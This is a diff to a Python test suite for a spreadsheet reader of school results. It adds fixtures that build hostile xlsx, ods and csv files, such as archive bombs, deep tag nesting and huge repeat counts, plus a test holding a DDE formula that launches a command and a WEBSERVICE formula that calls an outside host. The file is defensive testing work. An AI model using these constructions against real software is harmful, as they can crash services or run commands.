@@ -1,5 +1,6 @@
 """Every reason to refuse a whole file: quickly, in little memory, with a code and a sentence that says what to do."""
 
+import copy
 import re
 import struct
 import time
@@ -247,6 +248,105 @@ def one_long_text_everywhere(path):
     return edit_zip(path, "xl/sharedStrings.xml", lambda _old: strings)
 
 
+def one_long_text_written_oddly(path):
+    cells = "".join(f"<row r='{r}'><c t = 's' r='A{r}'><v> 0 </v></c></row>" for r in range(1, 5_001))
+    with_sheet_xml(path, sheet_xml(cells))
+    strings = b"<x:sst><x:si><x:t>" + b"a" * 32_000 + b"</x:t></x:si></x:sst>"
+    return edit_zip(path, "xl/sharedStrings.xml", lambda _old: strings)
+
+
+def one_text_of_megabytes(path):
+    text = "а" * (5 << 20)
+    return with_sheet_xml(path, sheet_xml(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'))
+
+
+def millions_of_strings(path):
+    book_of(path, FORM)
+    return edit_zip(path, "xl/sharedStrings.xml", lambda _old: b"<sst>" + b"<si/>" * 4_100_000 + b"</sst>")
+
+
+def many_merged_cells(path):
+    merged = b"</sheetData><mergeCells>" + b'<mergeCell ref="A5:B5"/>' * 100_001 + b"</mergeCells>"
+    return with_sheet_xml(path, sheet_xml("").replace(b"</sheetData>", merged))
+
+
+def tags_in_tags(path):
+    deep = "<a>" * 500_000 + "</a>" * 500_000
+    return with_sheet_xml(path, sheet_xml(f"<row><c><v>1</v></c>{deep}</row>"))
+
+
+def far_cell_with_a_prefix_of_its_own(path):
+    cell = '<x:c r="XFD1048576"><x:v>1</x:v></x:c>'
+    return with_sheet_xml(path, sheet_xml(f'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576">{cell}</row>'))
+
+
+def entries_that_share_their_bytes(path):
+    """Central directory of a thousand names for one part of 150 KB."""
+    book_of(path, FORM)
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/o.xml", bytes(150_000))
+        for number in range(1_000):
+            again = copy.copy(archive.getinfo("xl/o.xml"))
+            again.filename = f"xl/o{number}.xml"
+            archive.filelist.append(again)
+    return path
+
+
+def million_rows(path):
+    rows = "".join(f'<row r="{r}"><c r="C{r}"><v>0</v></c></row>' for r in range(1, 301_000))
+    return with_sheet_xml(path, sheet_xml(rows))
+
+
+def ods_with(path, rows, after=b"</table:table-row>"):
+    path.write_bytes((DATA / "form.ods").read_bytes())
+    return edit_zip(path, "content.xml", lambda xml: xml.replace(after, after + rows, 1))
+
+
+def ods_cell(text, count=b"1"):
+    return (
+        b'<table:table-cell office:value-type="string" table:number-columns-repeated="' + count + b'"><text:p>' + text
+        + b"</text:p></table:table-cell>"
+    )  # fmt: skip
+
+
+def ods_text_in_every_row(path):
+    return ods_with(
+        path,
+        b'<table:table-row table:number-rows-repeated="20000">'
+        + ods_cell(b"a" * 30_000, b"20")
+        + b"</table:table-row>",
+    )
+
+
+def ods_of_spaces(path):
+    return ods_with(path, b"<table:table-row>" + ods_cell(b'<text:s text:c="2000000000"/>') + b"</table:table-row>")
+
+
+def ods_with_hidden_counts(path):
+    cell = ods_cell(b"1", b"&#49;0000000")
+    return ods_with(path, b"<table:table-row>" + cell + b"</table:table-row>")
+
+
+def ods_of_repeated_cells(path):
+    cell = b'<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="900"/>'
+    return ods_with(path, b'<table:table-row table:number-rows-repeated="9000">' + cell + b"</table:table-row>")
+
+
+def one_endless_line(path):
+    path.write_text("Код;Вариант;1 (1б)\n40001;1;1\n" + "1;" * 600_000, "utf-8")
+    return path
+
+
+def endless_empty_lines(path):
+    path.write_text("Код;Вариант;1 (1б)\n40001;1;1\n" + "\n" * 300_001, "utf-8")
+    return path
+
+
+def text_with_zero_bytes(path):
+    path.write_bytes("Код;Вариант;1 (1б)\n40001\0;1;1\n".encode())
+    return path
+
+
 def foreign_workbook(path):
     return book_of(path, "Товар | Цена | Количество\nПарта | 5000 | 3\nСтул | 1500 | 9")
 
@@ -266,7 +366,7 @@ REFUSED = {
     "encrypted": (password_of_xlsx, password_of_xls, password_of_ods, zip_with_password),
     "renamed": (word, old_word, archive, pdf, web_page),
     "binary_workbook": (binary_workbook,),
-    "not_a_workbook": (prose, noise),
+    "not_a_workbook": (prose, noise, text_with_zero_bytes),
     "too_large": (
         far_cell,
         far_cell_hidden_by_dimension,
@@ -277,8 +377,28 @@ REFUSED = {
         far_cell_of_xls,
         too_wide_text,
         far_cell_of_ods,
+        far_cell_with_a_prefix_of_its_own,
+        ods_of_repeated_cells,
+        million_rows,
+        one_endless_line,
+        endless_empty_lines,
     ),
-    "hostile": (bomb_of_a_sheet, bomb_with_a_false_size, entities, thousands_of_parts, one_long_text_everywhere),
+    "hostile": (
+        bomb_of_a_sheet,
+        bomb_with_a_false_size,
+        entities,
+        thousands_of_parts,
+        entries_that_share_their_bytes,
+        one_long_text_everywhere,
+        one_long_text_written_oddly,
+        one_text_of_megabytes,
+        millions_of_strings,
+        many_merged_cells,
+        tags_in_tags,
+        ods_text_in_every_row,
+        ods_of_spaces,
+        ods_with_hidden_counts,
+    ),
     "unrecognised": (foreign_workbook,),
 }
 
@@ -320,6 +440,39 @@ def test_styled_empty_cells_far_away_do_no_harm(tmp_path):
     path = book_of(tmp_path / "Математика 5 класс ВПР 2026.xlsx", FORM)
     far = b'<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>'
     edit_zip(path, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"</sheetData>", far))
+    assert len(read_result_file(path).participants) == 1
+
+
+SPACES_AND_TWINS = (
+    b"<table:table-row>" + ods_cell(b'4<text:s text:c="3"/>') + ods_cell(b"1", b"2") + b"</table:table-row>"
+)
+
+
+@pytest.mark.parametrize("rows", [SPACES_AND_TWINS, SPACES_AND_TWINS * 2])
+def test_honest_repetitions_of_an_ods_are_read(tmp_path, rows):
+    path = ods_with(tmp_path / "Математика 5 класс ВПР 2026.ods", rows)
+    assert read_result_file(path).participants
+
+
+def test_formulas_and_links_are_left_alone(tmp_path):
+    path = book_of(tmp_path / "Математика 5 класс ВПР 2026.xlsx", FORM)
+    row = b"""<row r="3"><c r="A3"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>40002</v></c><c r="B3"><v>1</v></c>\
+<c r="C3"><f>[1]Sheet!A1</f><v>1</v></c><c r="D3"><f>cmd|"/c calc"!A0</f><v>2</v></c></row></sheetData>"""
+    edit_zip(path, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"</sheetData>", row))
+    edit_zip(path, "xl/externalLinks/externalLink1.xml", lambda _old: b"<externalLink/>")
+    assert [row.code for row in read_result_file(path).participants] == ["40001", "40002"]
+
+
+def test_a_quote_that_is_never_closed_swallows_no_rows(tmp_path):
+    path = tmp_path / "Математика 5 класс ВПР 2026.csv"
+    path.write_text('Код;Вариант;1 (1б)\n40001;1;1\n40002;"1;1\n40003;1;1\n', "utf-8")
+    assert [row.code for row in read_result_file(path).participants] == ["40001", "40002", "40003"]
+
+
+def test_a_sheet_of_a_million_empty_rows_is_read(tmp_path):
+    path = book_of(tmp_path / "Математика 5 класс ВПР 2026.xlsx", FORM)
+    empty = "".join(f'<row r="{r}"/>' for r in range(3, 100_000)).encode() + b'<row r="1048576"/></sheetData>'
+    edit_zip(path, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"</sheetData>", empty))
     assert len(read_result_file(path).participants) == 1
 
 
